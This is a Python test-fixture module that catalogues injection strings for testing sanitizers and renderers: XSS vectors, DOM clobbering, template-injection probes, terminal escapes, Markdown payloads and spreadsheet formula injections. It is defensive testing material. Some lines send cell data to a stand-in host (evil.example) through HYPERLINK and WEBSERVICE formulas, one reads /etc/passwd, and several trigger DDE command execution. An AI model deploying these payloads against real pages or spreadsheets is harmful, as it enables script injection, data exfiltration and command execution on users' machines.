"""What strangers write to become something else in a page, a terminal, a spreadsheet: written by us, of known kinds.

The kinds are those of OWASP's cheat sheets on cross-site scripting and its evasion, on DOM clobbering and on CSV
injection. Every script that runs sets `window.__pwned`.
"""

from __future__ import annotations

from typing import Final

RUN: Final = "window.__pwned=1"
ELEMENTS: Final = (
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT\t>",
    f"<script/src=data:,{RUN}></script>",
    '<script src="//evil.example/x.js"></script>',
    f"<<script>{RUN}//<</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script\x0c>{RUN}</script>",
    f"<script\x00>{RUN}</script>",
    "<iframe srcdoc='&lt;script&gt;parent.__pwned=1&lt;/script&gt;'></iframe>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<object data=javascript:{RUN}></object><embed src=javascript:{RUN}>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/><link rel=stylesheet href=//evil.example/x.css>",
    f"<form action=javascript:{RUN}><button>x</button></form><input formaction=javascript:{RUN} type=submit>",
    f"<template shadowrootmode=open><script>{RUN}</script></template>",
)
HANDLERS: Final = (
    f"<img src=x onerror={RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f"<img src=x:x onerror\x09=\x0a{RUN}>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video><audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<p style=animation-name:x onanimationstart={RUN}>x</p>",
    f"<div onpointerover={RUN} style='position:fixed;inset:0'>x</div>",
)
FOREIGN: Final = (
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script>&#119;indow.__pwned=1</script><a xlink:href='javascript:{RUN}'><text y=9>x</text></a></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>{RUN}</script></svg>#x'/>",
    f"<svg><foreignObject><body onload={RUN}></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    f"<math href=javascript:{RUN}>x</math>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
)
BREAKOUTS: Final = (
    f'"><script>{RUN}</script>',
    f"'><svg onload={RUN}>",
    f'" autofocus onfocus={RUN} x="',
    f"' onmouseover='{RUN}",
    f"` onmouseover={RUN} `",
    f"x onclick={RUN}",
    f"</title></textarea></style></noscript></template></script><img src=x onerror={RUN}>",
    f"--><script>{RUN}</script><!--",
    f"--!><img src=x onerror={RUN}>",
    f"]]><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<!--<script>{RUN}",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"';{RUN};//\";{RUN};//`;{RUN};//${{{RUN}}}",
    f"\u2028{RUN}\u2029",
)
ADDRESSES: Final = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f" \x01javascript:{RUN}",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f"&#106;avascript:{RUN}",
    f"javascript://example.org/%0a{RUN}",
    f"data:text/html,<script>opener.{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0xPC9zY3JpcHQ+",
    "vbscript:msgbox(1)",
    "//evil.example/x",
    "\\\\evil.example\\x",
    f'https://example.org/" onclick="{RUN}',
    f"https://example.org/'><img src=x onerror={RUN}>",
    "https://user:secret@example.org@evil.example/",
    "feed:javascript:window.__pwned=1",
    "view-source:javascript:1",
)
TEMPLATES: Final = (
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {% raw %} *{7*7} @(7*7) [[7*7]] ~{7*7}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{constructor.constructor('window.__pwned=1')()}}",
    "{% include '/etc/passwd' %}{# #}{%- endblock %}",
    "%(n)s %s %d %n {0} {n} {0.__class__}",
)
STYLES: Final = (
    "</style><style>*{display:none!important}</style>",
    "x;background:url(//evil.example/x);}body{display:none",
    f"expression({RUN});-moz-binding:url(//evil.example/x.xml)",
    "@import '//evil.example/x.css';",
    "<div style='position:fixed;inset:0;background:red'>Your session ended</div>",
)
CLOBBERING: Final = (
    "<a id=main></a><a id=comment-1></a><form id=filter name=cookie><input name=body></form>",
    "<img name=getElementById><img name=querySelector><form name=location></form>",
    "<a id=__pwned href='//evil.example'></a><a id=__pwned name=x></a>",
    "constructor", "__proto__", "comment-1", "main", "article", "filter", "location", "body", "toString",
)  # fmt: skip
LETTERS: Final = (
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"\ufeff\u00bc script \u00be {RUN} \uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"%3Cscript%3E{RUN}%3C/script%3E &lt;script&gt; &#x3c;script&#x3e; &#60;script",
    f"\ud83d<script>{RUN}</script>\udc00",
    "\u202e>tpircs/<1=denwp__.wodniw>tpircs<\u202c \u2066x\u2067y\u2069 \u200e\u200f\u061c",
    f"a\x00b\x01c\x08d\x0be\x0cf\x7fg\x80h\x85i\x9bj\x9ck\ufffe\uffffl {RUN}",
    "\u200b\u200c\u200d\u2060\ufeff\u00ad\u180e",
    "Z\u0335\u0301\u0300\u0302" * 40,
    "\u1160\u3164\uffa0 \u2800",
)
TERMINALS: Final = (
    "\x1b[2J\x1b[H\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07\x1b]2;title\x1b\\",
    "\x1b]8;;http://evil.example\x07link\x1b]8;;\x07",
    "\x1b]52;c;ZWNobyBwd25lZA==\x07",
    "\x1bP+q544e\x1b\\\x1b_G\x1b\\\x1b^x\x1b\\",
    "\x9b31m\x9d0;x\x9c\x90x\x9c",
    "over\rwritten\x08\x08\x08\x7f\x07",
    "[red]rich[/red] [link=http://evil.example]x[/link] [/]",
)
POLYGLOTS: Final = (
    ("jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */onerror=window.__pwned=1 )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/"
    "</scRipt/--!>\\x3csVg/<sVg/oNloAd=window.__pwned=1//>\\x3e"),
    ('\'">><marquee><img src=x onerror=window.__pwned=1></marquee>"></plaintext\\></|\\><plaintext/onmouseover='
    "window.__pwned=1><script>window.__pwned=1</script>@gmail.com<isindex formaction=javascript:window.__pwned=1>"),
    "\"onclick=window.__pwned=1//<button ' onclick=window.__pwned=1//> */ window.__pwned=1//",
)  # fmt: skip
MARKDOWN: Final = (
    f"[x](javascript:{RUN}) ![x](//evil.example/x.png) <javascript:{RUN}> <https://evil.example/>",
    f"[x]: javascript:{RUN}\n\n[x] [x][x]",
    f"```\n</code></pre><script>{RUN}</script>\n```\n    <script>{RUN}</script>",
    f"| a | b |\n|---|---|\n| <img src=x onerror={RUN}> | `|` |",
    "# heading\n\n> quote\n\n- list\n\n---\n\n***x***\n\n===\n\nx\n---",
    f"<details open ontoggle={RUN}>\n\n$`<img src=x onerror={RUN}>`$ :smile: @everyone",
)
MARKUP: Final = (
    ELEMENTS + HANDLERS + FOREIGN + BREAKOUTS + ADDRESSES + TEMPLATES + STYLES + CLOBBERING + LETTERS + POLYGLOTS
)
"""What a page may be shown."""
EVERYTHING: Final = MARKUP + TERMINALS + MARKDOWN
FORMULAS: Final = (
    "=1+1", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1", "\u200b=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)",
    '"=1+1', "'=1+1", '=HYPERLINK("http://evil.example/?x="&A1,"click")', '=IMPORTXML("http://evil.example","//a")',
    '=WEBSERVICE("http://evil.example/?"&A1)', '=DDE("cmd";"/C calc";"x")', "fine;=1+1", "fine\t=1+1",
    "fine\r\n=1+1", 'fine";"=1+1', "-2+3+cmd|' /C calc'!A0", "%0A=1+1", "=\u200b1+1", "=@SUM(1)", "\x00=1+1",
)  # fmt: skip
"""What a spreadsheet may be shown."""
